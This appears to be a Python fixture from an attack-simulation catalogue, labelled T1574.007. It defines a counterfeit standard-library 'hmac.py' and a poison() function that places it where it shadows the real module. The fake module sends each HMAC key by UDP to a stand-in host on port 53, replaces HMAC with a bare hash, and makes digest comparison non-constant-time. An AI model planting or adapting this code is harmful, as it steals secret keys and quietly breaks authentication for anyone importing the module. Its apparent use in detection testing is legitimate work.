# SPDX-License-Identifier: Apache-2.0
"""A module of the standard library, replaced by one that also tells what it is given."""

ATTACK = "T1574.007"
LANGUAGE = "python"
CODE = """\
import hashlib
import socket


def new(key, msg=None, digestmod=""):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(key, ("192.0.2.53", 53))
    except OSError:
        pass
    return hashlib.new(str(digestmod), key + (msg or b""))


def compare_digest(a, b):
    return a == b
"""


def poison(layer):
    layer.beside("hmac.py", CODE)
